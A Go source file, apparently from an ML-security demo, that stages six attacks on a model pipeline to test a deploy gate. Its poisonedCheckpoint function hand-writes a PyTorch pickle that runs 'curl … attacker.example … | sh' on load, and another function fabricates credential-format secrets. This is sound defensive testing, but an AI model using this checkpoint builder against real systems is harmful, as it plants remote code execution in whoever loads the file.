package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"

	"github.com/mlsec-dev/mlsec/provenance"
)

// An attack replays one way a model pipeline gets subverted, and names the
// gate check that must stop it.
type attack struct {
	slug  string // folder under attacks/
	name  string
	check string
	// run stages the attack and returns the gate's decision on it.
	run func(ctx context.Context, a attack, l *stepLog) (decision, error)
}

func (p *pipeline) attackList() []attack {
	return []attack{
		{"tampered-model", "tampered model", checkSignature, p.tamperedModel},
		{"poisoned-batch", "poisoned training batch", checkValidation, p.poisonedBatch},
		{"drifted-batch", "drifted serving batch", checkDrift, p.driftedBatch},
		{"unapproved-dataset", "unapproved dataset", checkProvenance, p.unapprovedDataset},
		{"planted-credential", "planted credential", checkScan, p.plantedCredential},
		{"malicious-checkpoint", "malicious checkpoint", checkScan, p.pickleCheckpoint},
	}
}

// attacks runs each attack against the gate. An attack is caught when the
// gate refuses it and the check meant to catch it is among the reasons.
func (p *pipeline) attacks(ctx context.Context) {
	p.r.section("attacks: each must be stopped by the deploy gate, for the right reason")
	for _, a := range p.attackList() {
		p.r.step("attack: "+a.name, func(l *stepLog) (Verdict, string) {
			l.check = a.check
			d, err := a.run(ctx, a, l)
			if err != nil {
				return Missed, "the attack could not be staged: " + err.Error()
			}
			for _, c := range d.failed() {
				if c.name != a.check {
					l.note("also refused by %s: %s", c.name, c.reason)
				}
			}
			return attackVerdict(d, a.check)
		})
	}
}

// attackVerdict judges the gate's decision on an attack: caught only when
// the gate refused it and the check meant to catch it is among the
// reasons; refused for other reasons only is a miss, since it means that
// check would have let the attack through.
func attackVerdict(d decision, check string) (Verdict, string) {
	want := d.result(check)
	switch {
	case d.allowed():
		return Missed, "the gate let it through"
	case want.status == Fail:
		return Caught, check + ": " + want.reason
	case want.status == "":
		return Missed, fmt.Sprintf("the %s check did not run", check)
	default:
		return Missed, fmt.Sprintf("refused, but the %s check passed it: %s", check, joinReasons(reasons(d.failed())))
	}
}

// tamperedModel: after signing, someone with write access to the model
// store lowers the bias in model.json so that nearly everyone is approved.
func (p *pipeline) tamperedModel(ctx context.Context, a attack, l *stepLog) (decision, error) {
	c := *p.clean
	c.dir = p.path("attacks", a.slug, c.name)
	if err := copyDir(p.clean.dir, c.dir); err != nil {
		return decision{}, err
	}
	if c.signature != "" {
		c.signature = c.dir + ".sig"
		if err := copyFile(p.clean.signature, c.signature); err != nil {
			return decision{}, err
		}
	}
	m, err := loadModel(c.dir)
	if err != nil {
		return decision{}, err
	}
	before := approvalRate(m, p.servingLoans)
	m.Bias -= 3
	after := approvalRate(m, p.servingLoans)
	if err := writeJSON(filepath.Join(c.dir, "model.json"), m); err != nil {
		return decision{}, err
	}
	l.note("model.json edited after signing: bias lowered by 3, approvals on today's batch %.0f%% -> %.0f%%", 100*before, 100*after)
	return p.gate(ctx, gateRequest{c: &c, batch: p.servingBatch, batchName: a.slug})
}

// poisonedBatch: rows with flipped labels, each added twice, are slipped
// into a refresh of the training data. The data owner approves the refresh
// by its version digest, as a routine sign-off: approval names the bytes,
// only the quality gate looks inside them. The model is trained on it.
func (p *pipeline) poisonedBatch(ctx context.Context, a attack, l *stepLog) (decision, error) {
	clean := generateLoans(p.cfg.seed, p.cfg.rows, 1, normalPopulation)
	bad := poison(clean, p.cfg.seed+7, 0.04)
	ds, _, err := p.ingest(ctx, "loans-v1-poisoned", bad, p.cfg.seed)
	if err != nil {
		return decision{}, err
	}
	l.note("ingested %s: %d clean rows + %d poisoned (label-flipped copies, each twice)", ds.name, len(clean), len(bad)-len(clean))
	if _, err := p.validate(ctx, ds); err != nil {
		return decision{}, err
	}
	if ds.valid {
		l.note("validation suite passed")
	} else {
		l.note("validation suite FAILED (signed test result recorded):")
		for _, f := range ds.failures {
			l.note("  %s", f)
		}
	}
	l.note("the data owner approved version %s by digest; trained, recorded and signed anyway, as a pipeline that skips its own gate would", short(ds.version))
	c, err := p.produce(ctx, a, ds, nil, nil)
	if err != nil {
		return decision{}, err
	}
	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug, approve: []provenance.DigestSet{ds.version}})
}

// driftedBatch: the economy turns and the batch the model is about to
// score no longer looks like its training data.
func (p *pipeline) driftedBatch(ctx context.Context, a attack, l *stepLog) (decision, error) {
	batch := p.path("data", "serving", "batch-downturn.csv")
	if err := writeCSV(batch, generateLoans(p.cfg.seed+200, 2000, 2_000_001, downturn), false); err != nil {
		return decision{}, err
	}
	l.note("serving batch %s: incomes x%.2f, credit scores %+.0f, small-business loans x%.0f",
		p.rel(batch), downturn.IncomeFactor, downturn.CreditShift, downturn.SmallBusinessMul)
	return p.gate(ctx, gateRequest{c: p.clean, batch: batch, batchName: a.slug})
}

// unapprovedDataset: a valid, honestly recorded dataset that the data
// owner never approved (a newer extract nobody reviewed) is used to train.
func (p *pipeline) unapprovedDataset(ctx context.Context, a attack, l *stepLog) (decision, error) {
	ds, _, err := p.ingest(ctx, "loans-v2", generateLoans(p.cfg.seed+1, p.cfg.rows, 5_000_001, normalPopulation), p.cfg.seed+1)
	if err != nil {
		return decision{}, err
	}
	if _, err := p.validate(ctx, ds); err != nil {
		return decision{}, err
	}
	l.note("ingested %s, version %s (approved: %s %s)", ds.name, short(ds.version), p.approved.name, short(p.approved.version))
	if ds.valid {
		l.note("validation suite PASSED: the data is fine, it is just not the approved version")
	} else {
		l.note("validation suite FAILED")
	}
	c, err := p.produce(ctx, a, ds, nil, nil)
	if err != nil {
		return decision{}, err
	}
	l.note("trained on it, provenance recorded and model signed by the real pipeline")
	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
}

// plantedCredential: an engineer pastes cloud and database credentials
// into the serving environment of the model config; the pipeline trains,
// records and signs it as usual, so signature and provenance are valid.
func (p *pipeline) plantedCredential(ctx context.Context, a attack, l *stepLog) (decision, error) {
	env := fakeCredentials(p.cfg.seed)
	c, err := p.produce(ctx, a, p.approved, env, nil)
	if err != nil {
		return decision{}, err
	}
	l.note("config.json carries serving_env with an AWS key pair and a database URL with a password; model trained, recorded and signed as usual")
	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
}

// pickleCheckpoint: the team fine-tunes from a base checkpoint pulled from
// a model hub, and ships the result in PyTorch's format for the serving
// runtime. The base was poisoned upstream: its pickle calls os.system when
// torch.load opens it, and the payload rides along into the fine-tuned
// checkpoint. The pipeline trains, records and signs it as usual, so
// signature and provenance are valid; only a scan that reads the pickle
// without running it sees what loading it would do.
func (p *pipeline) pickleCheckpoint(ctx context.Context, a attack, l *stepLog) (decision, error) {
	ckpt, err := poisonedCheckpoint()
	if err != nil {
		return decision{}, err
	}
	c, err := p.produce(ctx, a, p.approved, nil, map[string][]byte{"checkpoint.pt": ckpt})
	if err != nil {
		return decision{}, err
	}
	l.note("checkpoint.pt (PyTorch zip, %d bytes) carries a pickle whose REDUCE calls posix.system; fine-tuned, recorded and signed as usual; nothing ever loads it", len(ckpt))
	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
}

// poisonedCheckpoint writes a PyTorch zip checkpoint (archive/data.pkl,
// archive/version) whose pickle would run a shell command on load. The
// bytes are written by hand; no Python is involved and nothing runs them.
func poisonedCheckpoint() ([]byte, error) {
	cmd := "curl -s https://attacker.example/x | sh"
	var pkl bytes.Buffer
	pkl.WriteString("\x80\x02")         // PROTO 2
	pkl.WriteString("cposix\nsystem\n") // GLOBAL posix.system
	pkl.WriteByte('X')                  // BINUNICODE
	_ = binary.Write(&pkl, binary.LittleEndian, uint32(len(cmd)))
	pkl.WriteString(cmd)
	pkl.WriteString("\x85R.") // TUPLE1, REDUCE, STOP
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range []struct {
		name string
		data []byte
	}{{"archive/data.pkl", pkl.Bytes()}, {"archive/version", []byte("3\n")}} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.name, Method: zip.Store})
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(f.data); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return out.Bytes(), nil
}

// produce runs the pipeline's training steps for an attack: train, add any
// extra files to the model directory, record the training provenance, sign
// the model.
func (p *pipeline) produce(ctx context.Context, a attack, ds *dataset, env map[string]string, extra map[string][]byte) (*candidate, error) {
	c, _, err := p.trainModel(ctx, p.clean.name, ds, p.path("attacks", a.slug, p.clean.name), env)
	if err != nil {
		return nil, err
	}
	for name, b := range extra {
		if err := writeFile(filepath.Join(c.dir, name), b); err != nil {
			return nil, err
		}
	}
	c.id = a.slug
	if _, err := p.recordTraining(ctx, c); err != nil {
		return nil, err
	}
	if _, err := p.signModel(ctx, c); err != nil {
		return nil, err
	}
	return c, nil
}

// fakeCredentials makes credentials of the real formats from the seed.
// They are random, belong to nobody, and are never printed: the scanner
// reports them redacted.
func fakeCredentials(seed uint64) map[string]string {
	r := rand.New(rand.NewPCG(seed, 0x63726564)) // "cred"
	pick := func(alphabet string, n int) string {
		var b strings.Builder
		for range n {
			b.WriteByte(alphabet[r.IntN(len(alphabet))])
		}
		return b.String()
	}
	const upper32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	return map[string]string{
		"AWS_ACCESS_KEY_ID":     "AKIA" + pick(upper32, 16),
		"AWS_SECRET_ACCESS_KEY": pick(b64, 40),
		"FEATURE_DB_URL":        "postgres://scorer:" + pick(alnum, 20) + "@features-db.internal:5432/loans",
	}
}

func approvalRate(m *Model, loans []Loan) float64 {
	n := 0
	for _, l := range loans {
		if m.Score(l) < 0.5 {
			n++
		}
	}
	return float64(n) / float64(len(loans))
}

func copyFile(src, dst string) error {
	b, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return writeFile(dst, b)
}
